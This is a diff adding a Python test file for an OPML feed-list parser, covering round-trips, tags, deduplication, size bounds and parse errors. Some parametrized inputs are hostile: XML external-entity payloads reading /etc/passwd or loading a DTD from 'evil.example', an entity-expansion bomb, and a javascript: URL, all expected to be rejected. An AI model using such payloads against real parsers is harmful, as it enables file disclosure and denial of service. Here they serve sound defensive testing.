@@ -1,0 +1,124 @@
+"""Lists of feeds: what readers export is read, what is written is read back, and nothing in a list can do harm."""
+
+from __future__ import annotations
+
+import contextlib
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from lxml import etree
+
+from monitor.errors import FeedParseError
+from monitor.feeds import opml
+from monitor.feeds.opml import ListedFeed, read_opml, write_opml
+from monitor.text import one_line
+
+
+def read(body: str) -> tuple[ListedFeed, ...]:
+    return read_opml(f'<opml version="1.0"><body>{body}</body></opml>'.encode(), name="list.opml")
+
+
+LINES = st.text(max_size=80).map(lambda text: one_line(text, limit=200))
+TAGS = (
+    st.text(min_size=1, max_size=30).map(lambda text: one_line(text.replace(",", "").replace("/", ""), limit=60)).filter(bool)
+)
+FEEDS = st.builds(
+    ListedFeed,
+    url=st.from_regex(r"https?://[a-z]{1,8}\.example/[a-zA-Z0-9&='~%-]{0,20}(\?[a-z]=[a-z&;'-]{0,8})?", fullmatch=True),
+    title=LINES,
+    tags=st.lists(TAGS, unique=True, max_size=4).map(tuple),
+)
+
+
+@given(st.lists(FEEDS, unique_by=lambda feed: feed.url, max_size=6), st.text(max_size=40))
+def test_what_is_written_is_read_back(feeds: list[ListedFeed], title: str) -> None:
+    document = write_opml(feeds, title=title)
+
+    assert read_opml(document.encode(), name="list.opml") == tuple(feeds)
+
+
+@given(st.lists(FEEDS, unique_by=lambda feed: feed.url, max_size=3))
+def test_written_lists_are_well_formed_xml_with_a_text_for_every_outline(feeds: list[ListedFeed]) -> None:
+    root = etree.fromstring(write_opml(feeds, title="Feeds").encode())
+
+    assert [outline.get("xmlUrl") for outline in root.iter("outline")] == [feed.url for feed in feeds]
+    assert all(outline.get("text") for outline in root.iter("outline"))
+
+
+@given(st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode)))
+def test_no_bytes_raise_anything_but_a_parse_error(body: bytes) -> None:
+    with contextlib.suppress(FeedParseError):
+        read_opml(b"<opml><body>" + body, name="list.opml")
+
+
+def test_folders_and_categories_become_tags() -> None:
+    feeds = read(
+        '<outline text="Press"><outline title="Courts">'
+        '<outline text="Docket" xmlUrl="https://court.example/rss" category="/law/maryland,urgent"/></outline></outline>'
+        '<outline text="Loose" xmlUrl="https://loose.example/rss"/>'
+    )
+
+    assert feeds == (
+        ListedFeed("https://court.example/rss", "Docket", ("Press", "Courts", "law", "maryland", "urgent")),
+        ListedFeed("https://loose.example/rss", "Loose"),
+    )
+
+
+def test_case_of_names_and_unescaped_ampersands_do_not_matter() -> None:
+    body = b'<OPML><BODY><OUTLINE TEXT="Wind & Weather" XMLURL="https://wind.example/rss?a=1&b=2"/></BODY></OPML>'
+
+    (feed,) = read_opml(body, name="list.opml")
+
+    assert feed.url.startswith("https://wind.example/rss?a=1")
+    assert feed.title.startswith("Wind")
+
+
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", "file:///etc/passwd", "ftp://a.example/x", "", "/rss", "https://u:p@a.example/"]
+)
+def test_what_is_no_web_address_is_left_out(url: str) -> None:
+    assert read(f'<outline text="x" xmlUrl="{url}"/><outline text="y" xmlUrl="https://y.example/rss"/>') == (
+        ListedFeed("https://y.example/rss", "y"),
+    )
+
+
+def test_an_address_that_stands_twice_is_read_once() -> None:
+    twice = '<outline text="one" xmlUrl="https://a.example/rss"/><outline text="two" xmlUrl="https://a.example/rss"/>'
+
+    assert read(twice) == (ListedFeed("https://a.example/rss", "one"),)
+
+
+def test_links_to_pages_are_no_feeds() -> None:
+    assert read(
+        '<outline text="x" type="link" url="https://a.example/"/><outline type="rss" url="https://b.example/rss"/>'
+    ) == (ListedFeed("https://b.example/rss"),)
+
+
+@pytest.mark.parametrize(
+    "prolog",
+    [
+        '<!DOCTYPE opml [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
+        '<!DOCTYPE opml [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE opml [<!entity % a SYSTEM "https://evil.example/x.dtd"> %a;]>',
+    ],
+)
+def test_entities_are_refused(prolog: str) -> None:
+    with pytest.raises(FeedParseError, match="entities"):
+        read_opml(f'{prolog}<opml><body><outline text="&a;" xmlUrl="https://a.example/"/></body></opml>'.encode(), name="x")
+
+
+@pytest.mark.parametrize("body", [b"", b"{}", b"<html><body/></html>", b"<rss><channel/></rss>", b"\x00\xff\xfe"])
+def test_what_is_no_opml_is_said_to_be_none(body: bytes) -> None:
+    with pytest.raises(FeedParseError, match=r"list\.opml is no OPML"):
+        read_opml(body, name="list.opml")
+
+
+def test_size_depth_and_number_are_bounded() -> None:
+    with pytest.raises(FeedParseError, match="larger"):
+        read_opml(b" " * (opml.MAX_BYTES + 1), name="x")
+    many = "".join(f'<outline xmlUrl="https://a.example/{number}"/>' for number in range(opml.MAX_FEEDS + 1))
+    with pytest.raises(FeedParseError, match="more than"):
+        read(many)
+    deep = "<outline text='x'>" * 5_000
+    assert read(deep) == ()
